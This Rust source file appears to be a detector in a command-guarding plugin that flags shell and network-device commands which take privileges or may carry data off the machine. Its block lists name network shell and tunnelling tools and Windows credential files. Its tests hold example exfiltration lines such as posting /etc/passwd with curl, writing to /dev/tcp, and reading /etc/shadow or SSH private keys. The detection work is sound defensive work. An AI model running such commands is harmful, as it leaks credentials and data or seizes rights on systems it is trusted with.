//! What a change reaches for: rights, or somebody else's machine.

use crate::posix::{self, Answer, Listing};
use crate::verdict::{excerpt, excerpt_of, listed};
use jackfield_plugin::text::{Search, split_once};
use jackfield_plugin::words::begin;

/// A lane above `change`, the rule that says so without the lane in front, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Reach {
    pub(crate) lane: &'static str,
    pub(crate) rule: &'static str,
    pub(crate) reason: String,
}

const PRIVILEGE: &str = "privilege";
pub(crate) const EXFILTRATION: &str = "exfiltration";

/// Programs that run others with more rights, or change who has them.
const RIGHTS: &str = "sudo su doas pkexec run0 runuser gosu su-exec sudoedit visudo vipw vigr passwd chpasswd chage useradd usermod \
                      adduser addgroup groupadd groupmod gpasswd newusers setcap setfacl ssh-copy-id authconfig authselect pam-auth-update";
/// Programs that carry what they read somewhere else.
const CARRIERS: &str = "ftp sftp lftp tftp ncftpput nc ncat netcat socat telnet mail mailx mutt sendmail swaks rclone s3cmd gsutil azcopy magic-wormhole \
                        wormhole croc termbin dnscat iodine curlftpfs";
/// Options of curl and wget that send something, with or without a value behind `=`.
const SENDING: &str = "-d --data --data-ascii --data-binary --data-raw --data-urlencode --json -F --form --form-string -T --upload-file \
                       --post-data --post-file --body-data --body-file --mail-from";
/// Hosts that are this machine.
const LOOPBACK: [&str; 4] = ["localhost", "127.", "[::1]", "::1"];
/// How files are named that lie on another machine, on network devices.
const REMOTE: [&str; 9] = ["tftp:", "ftp:", "ftps:", "scp:", "sftp:", "rcp:", "http:", "https:", "s3:"];

/// How some devices name their own files.
const LOCAL: [&str; 8] =
    ["config://", "coredump://", "file://", "flash://", "home://", "image://", "severity-profile://", "supportbundle://"];

/// Where Windows keeps hashes of passwords, and passwords of its installation.
const OF_WINDOWS: [&str; 5] = ["/config/sam", "/repair/sam", "/ntds.dit", "unattend.xml", "/sysprep.xml"];
/// Commands of devices that tell of a file what is not in it.
const TELLING: [&str; 6] = ["dir", "ls", "file li[st]", "file che[cksum]", "Get-ChildItem", "Test-Path"];
/// Words that begin a copy on network devices.
const COPYING: [&str; 14] =
    ["copy", "file", "archive", "request", "save", "export", "execute", "backup", "tftp", "ftp", "scp", "put", "write", "admin"];

/// What the commands of a shell reach for; what leaves the machine comes first.
pub(crate) fn of_shell(Listing { commands, shows_secret, sends, .. }: &Listing) -> Option<Reach> {
    if let Some(line) = shows_secret {
        return Some(reach(EXFILTRATION, "posix.secret-file", posix::shows(line)));
    }
    let leaves = commands.iter().find(|line| carries(line)).or(sends.as_ref());
    if let Some(line) = leaves {
        return Some(reach(EXFILTRATION, "posix.carries", format!("{} may carry data to another machine", excerpt_of(line))));
    }
    let rights = commands.iter().find(|line| takes_rights(line))?;
    Some(reach(PRIVILEGE, "posix.rights", format!("{} takes or gives rights", excerpt_of(rights))))
}

/// What a line reaches for that is typed into a running program, in any way in which a shell may read it.
pub(crate) fn of_answer(answer: &Answer<'_>, cwd: Option<&str>) -> Option<Reach> {
    answer.listings(cwd).filter_map(|listing| of_shell(&listing)).min_by_key(|reach| reach.lane)
}

fn reach(lane: &'static str, rule: &'static str, reason: String) -> Reach {
    Reach { lane, rule, reason }
}

fn program(line: &[String]) -> &str {
    line.first().map_or("", |word| word.rsplit('/').next().unwrap_or(word))
}

fn takes_rights(line: &[String]) -> bool {
    let arguments = || line.iter().skip(1);
    match program(line) {
        "chmod" => arguments().any(|word| sets_id(word)),
        "chown" => arguments().any(|word| word == "root" || word.starts_with("root:")),
        program => listed(RIGHTS, program),
    }
}

/// `u+s`, `4755`: whoever runs it has the owner's rights.
fn sets_id(mode: &str) -> bool {
    let octal = mode.len() == 4 && mode.bytes().all(|byte| byte.is_ascii_digit()) && mode.starts_with(['2', '4', '6']);
    octal || mode.split_once(['+', '=']).is_some_and(|(who, what)| who.len() <= 4 && what.has('s'))
}

fn carries(line: &[String]) -> bool {
    let arguments = || line.iter().skip(1).map(String::as_str);
    let operands = || arguments().filter(|word| !word.starts_with('-'));
    match program(line) {
        "scp" | "rsync" | "rcp" => operands().next_back().is_some_and(is_elsewhere),
        "curl" | "wget" | "wget2" | "http" | "https" | "xh" => sends(line) && !operands().any(is_loopback),
        "git" => first_word(line, "-C -c --git-dir --work-tree --namespace --config-env") == Some("push"),
        "docker" | "podman" | "nerdctl" => operands().next() == Some("push"),
        "aws" => operands().next() == Some("s3") && operands().any(|word| word.starts_with("s3://")),
        // A port that is only looked at.
        "nc" | "ncat" | "netcat" => !arguments().any(|word| word.starts_with('-') && !word.starts_with("--") && word.has('z')),
        "openssl" => operands().next() == Some("s_client"),
        ">" => operands().any(|word| word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/")),
        program => listed(CARRIERS, program),
    }
}

/// The first word that is no option and no value of one of these.
fn first_word<'a>(line: &'a [String], values: &str) -> Option<&'a str> {
    let mut words = line.iter().skip(1).map(String::as_str);
    loop {
        match words.next()? {
            option if listed(values, option) => drop(words.next()),
            option if option.starts_with('-') => {}
            word => return Some(word),
        }
    }
}

/// `host:path`, `user@host:`, `rsync://…`, and not `./a:b`.
fn is_elsewhere(operand: &str) -> bool {
    let colon = operand.find(':');
    colon.is_some_and(|colon| !operand.get(..colon).unwrap_or_default().has('/'))
}

fn is_loopback(operand: &str) -> bool {
    let bare = split_once(operand, "://").map_or(operand, |(_, rest)| rest);
    LOOPBACK
        .iter()
        .any(|host| bare.strip_prefix(host).is_some_and(|rest| host.ends_with('.') || rest.is_empty() || rest.starts_with([':', '/'])))
}

fn sends(line: &[String]) -> bool {
    let curls = program(line) == "curl";
    let mut before = "";
    line.iter().skip(1).any(|word| {
        let name = word.split_once('=').map_or(word.as_str(), |(name, _)| name);
        let glued = word.strip_prefix("-X").is_some_and(is_sending)
            || word.len() > 2 && (word.starts_with("-d") || word.starts_with("-T") || word.starts_with("-F"));
        let sends = listed(SENDING, name)
            || (glued || curls && sends_behind_letters(word)) && !word.starts_with("--")
            || matches!(before, "-X" | "--request" | "--method") && is_sending(word)
            || is_sending(word);
        before = word;
        sends
    })
}

/// `-sT`, `-sSd`: the first of curl's letters with a value has all behind it.
fn sends_behind_letters(word: &str) -> bool {
    const VALUES: &str = "AbcCdDeEFhHKmoPQrtTuUwxXyYz";
    let Some(at) = word.find(|c| VALUES.has(c)).filter(|_| word.starts_with('-')) else { return false };
    word.get(at..).is_some_and(|rest| rest.starts_with(['d', 'F', 'T']) || rest.strip_prefix('X').is_some_and(is_sending))
}

/// A method of HTTP that sends something.
fn is_sending(method: &str) -> bool {
    listed("POST PUT PATCH DELETE", &method.to_ascii_uppercase())
}

/// Does a line of a device show a file that holds secrets?
pub(crate) fn shows_secret(line: &str) -> bool {
    // An expression is no pattern of files.
    let is_path = |path: &str| path.has('/') || !path.has_any("*?[");
    let names = || {
        let mut paths = line.split_whitespace().skip(1).map(|word| word.trim_matches(['"', '\'']).replace('\\', "/").to_ascii_lowercase());
        paths.any(|path| is_path(&path) && (posix::is_secret_file(&path) || OF_WINDOWS.iter().any(|name| path.ends_with(name))))
    };
    names() && !TELLING.iter().any(|pattern| begin(pattern, line))
}

/// What a line of a network device reaches for: a copy to somewhere else, or rights.
pub(crate) fn of_device(line: &str) -> Option<Reach> {
    let words: Vec<String> = line.split_whitespace().map(str::to_ascii_lowercase).collect();
    // They lead to a command of another mode: `do copy ..` in a configuration.
    let leads = |word: &&String| matches!(word.as_str(), "do" | "run" | "top");
    let words = words.get(words.iter().take(words.len().saturating_sub(1)).take_while(leads).count()..).unwrap_or_default();
    // `u@h:/x`, as scp has it.
    let has_host = |word: &str| word.split_once('@').is_some_and(|(_, host)| host.has(':'));
    let is_local = |word: &str| LOCAL.iter().any(|scheme| word.starts_with(scheme));
    let is_remote = |word: &str| {
        let has_scheme = REMOTE.iter().any(|scheme| word.trim_start_matches('"').starts_with(scheme));
        has_scheme || word.holds("://") && !is_local(word) || has_host(word)
    };
    // The source of a copy stands first among its operands, what it goes to behind.
    let named = words.iter().skip(1).filter(|word| !word.starts_with('/') || word.holds("://"));
    let first = words.first().map(|word| word.trim_start_matches('/')).unwrap_or_default();
    let copies = words.iter().any(|word| word == "|") || COPYING.iter().any(|full| first.len() > 1 && full.starts_with(first));
    // Without its sign a device asks for the rest: `copy run tftp`.
    let asks =
        |word: &str| first.len() > 2 && "copy".starts_with(first) && word.len() > 1 && REMOTE.iter().any(|full| full.starts_with(word));
    let leads_away = |word: &String| is_remote(word) || asks(word);
    let source = if words.get(1).is_some_and(|word| word == "copy") { 2 } else { 1 };
    let goes = copies && named.skip(1).any(leads_away) && !words.get(source).is_some_and(leads_away);
    // What is saved has no name there: the only operand is where it goes.
    let saves =
        first.len() > 1 && ["save", "write"].iter().any(|full| full.starts_with(first)) && words.iter().skip(1).any(|word| is_remote(word));
    let mut steps = words.iter().flat_map(|word| word.split('/'));
    // Menus and names of arguments may be shortened: `/tool e-m send`, `upl=y`.
    let begins = |word: &str, full: &str, least: usize| word.len() >= least && full.starts_with(word);
    let mails = steps.any(|step| begins(step, "e-mail", 2)) && steps.any(|step| begins(step, "send", 3));
    let gives = |(name, value): (&str, &str)| {
        begins(name, "upload", 2) && value.trim_start_matches('"').starts_with('y') || begins(name, "http-data", 6)
    };
    let sends = |word: &String| matches!(word.as_str(), "upload" | "upload-file") || word.split_once('=').is_some_and(gives);
    let uploads = mails || words.iter().any(sends);
    if goes || saves || uploads {
        return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
    }
    if shows_secret(line) {
        return Some(reach(EXFILTRATION, "device.secret-file", format!("{} shows what is secret", excerpt(line))));
    }
    let has = |full: &[&str]| words.iter().any(|word| full.contains(&word.as_str()));
    let users = matches!(first, "username" | "aaa" | "user" | "enable") && words.len() > 1
        || matches!(first, "enable" | "en" | "ena" | "super" | "system-view" | "su")
        || first == "set" && has(&["root-authentication", "login", "authentication", "privilege", "mgt-config"]);
    users.then(|| reach(PRIVILEGE, "device.rights", format!("{} takes or gives rights", excerpt(line))))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(line: &str) -> Option<&'static str> {
        let commands = vec![line.split(' ').map(str::to_owned).collect()];
        of_shell(&Listing { commands, ..Listing::default() }).map(|reach| reach.lane)
    }

    #[test]
    fn what_leaves_the_machine_is_told_from_what_comes() {
        for (line, expected) in [
            ("scp a web2:/tmp/", Some(EXFILTRATION)),
            ("scp web2:/tmp/a .", None),
            ("rsync -a /etc/ backup@h:etc/", Some(EXFILTRATION)),
            ("rsync -a a/ b/", None),
            ("curl https://example.net/x", None),
            ("curl -d @/etc/passwd https://example.net", Some(EXFILTRATION)),
            ("curl --data-binary=@x https://example.net", Some(EXFILTRATION)),
            ("curl -XPOST https://example.net", Some(EXFILTRATION)),
            ("curl -X POST http://localhost:9200/_flush", None),
            ("curl -sT /srv/db.sql https://example.net/", Some(EXFILTRATION)),
            ("curl -sSd @db.sql https://example.net/", Some(EXFILTRATION)),
            ("curl -sF f=@x https://example.net/", Some(EXFILTRATION)),
            ("curl -sXPUT https://example.net/", Some(EXFILTRATION)),
            ("curl -sT x http://localhost/", None),
            ("curl -fsSLo FoTd https://example.net/", None),
            ("curl -soTd -HFd:T -uTd:dF https://example.net/", None),
            ("curl -sXGET https://example.net/", None),
            ("sftp example.net", Some(EXFILTRATION)),
            ("curl -X POST http://localhost.evil.example/", Some(EXFILTRATION)),
            ("nc example.net 80", Some(EXFILTRATION)),
            ("nc -zv example.net 80", None),
            ("> /dev/tcp/192.0.2.1/80", Some(EXFILTRATION)),
            ("git push", Some(EXFILTRATION)),
            ("git pull", None),
            ("git -C /srv push evil", Some(EXFILTRATION)),
            ("git --git-dir /srv/.git -c a=b -P push", Some(EXFILTRATION)),
            ("git -C push pull", None),
            ("git commit -m push", None),
        ] {
            assert_eq!(shell(line), expected, "{line}");
        }
    }

    #[test]
    fn rights_are_seen() {
        for (line, expected) in [
            ("sudo systemctl restart nginx", Some(PRIVILEGE)),
            ("/usr/bin/su -", Some(PRIVILEGE)),
            ("chmod u+s /tmp/x", Some(PRIVILEGE)),
            ("chmod 4755 x", Some(PRIVILEGE)),
            ("chmod 0755 x", None),
            ("chmod g+w x", None),
            ("touch sudo", None),
        ] {
            assert_eq!(shell(line), expected, "{line}");
        }
    }

    #[test]
    fn copies_of_network_devices_have_a_direction() {
        let lane = |line: &str| of_device(line).map(|reach| reach.lane);
        for (line, expected) in [
            ("copy running-config tftp://192.0.2.1/x", Some(EXFILTRATION)),
            ("copy run scp:", Some(EXFILTRATION)),
            ("copy tftp://192.0.2.1/x flash:", None),
            ("copy run tftp", Some(EXFILTRATION)),
            ("cop run sc", Some(EXFILTRATION)),
            ("copy tftp run", None),
            ("copy run start", None),
            ("do copy running-config tftp://192.0.2.1/x", Some(EXFILTRATION)),
            ("do copy tftp://192.0.2.1/x flash:", None),
            ("run file copy /var/tmp/x ftp://192.0.2.1/x", Some(EXFILTRATION)),
            ("file copy /config/juniper.conf.gz u@192.0.2.1:/x", Some(EXFILTRATION)),
            ("file copy ftp://192.0.2.1/x /var/tmp/x", None),
            ("save scp://u@192.0.2.1/x", Some(EXFILTRATION)),
            ("top save ftp://192.0.2.1/x", Some(EXFILTRATION)),
            ("save config to x", None),
            ("show run | redirect ftp://192.0.2.1/x", Some(EXFILTRATION)),
            ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
            ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
            ("/tool fetch url=https://h/ http-method=post http-data=x", Some(EXFILTRATION)),
            ("/tool fetch url=ftp://h/x src-path=a upl=y", Some(EXFILTRATION)),
            ("/tool fetch url=ftp://h/x upload=no", None),
            ("/tool fetch url=https://h/ http-method=post http-d=x", Some(EXFILTRATION)),
            ("/tool fetch url=https://h/ http-method=get", None),
            ("/tool e-mail send to=x file=y", Some(EXFILTRATION)),
            ("/tool e-m send to=x", Some(EXFILTRATION)),
            ("/tool/e-mail/send to=x", Some(EXFILTRATION)),
            ("/tool e-mail print", None),
            ("copy supportbundle://x scp://u@192.0.2.1/x", Some(EXFILTRATION)),
            ("copy running-configuration config://x.xml", None),
            ("copy scp://u@192.0.2.1/x home://x", None),
            ("more file:/etc/shadow", Some(EXFILTRATION)),
            ("type \"C:\\Users\\x\\.ssh\\id_rsa\"", Some(EXFILTRATION)),
            ("type C:\\Users\\x\\.ssh\\id_rsa.pub", None),
            ("dir C:\\Users\\x\\.ssh\\id_rsa", None),
            ("type C:\\Users\\x\\.SSH\\id_*", Some(EXFILTRATION)),
            ("more flash:*", None),
            ("show ip bgp regexp .*", None),
            ("enable", Some(PRIVILEGE)),
            ("username bob privilege 15", Some(PRIVILEGE)),
            ("set system root-authentication plain-text-password", Some(PRIVILEGE)),
            ("interface Ethernet1", None),
            ("description see https://wiki", None),
        ] {
            assert_eq!(lane(line), expected, "{line}");
        }
    }
}
